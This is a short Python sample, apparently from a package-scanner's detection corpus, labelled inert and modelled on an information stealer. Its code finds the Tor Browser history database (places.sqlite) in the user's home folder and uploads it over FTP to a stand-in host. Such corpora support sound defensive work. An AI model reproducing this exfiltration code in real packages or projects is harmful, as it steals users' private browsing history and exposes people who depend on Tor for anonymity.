# pkgguard corpus 481 (browser-data), modelled on [stealer-profile]; inert, never run.
import ftplib
import glob
import os

base = os.path.join(os.path.expanduser("~"), "Desktop", "Tor Browser", "Browser", "TorBrowser", "Data", "Browser")
for db in glob.glob(os.path.join(base, "profile.default", "places.sqlite")):
    with ftplib.FTP("ftp.example", "anon", "placeholder") as ftp, open(db, "rb") as fh:
        ftp.storbinary("STOR tb-places.sqlite", fh)
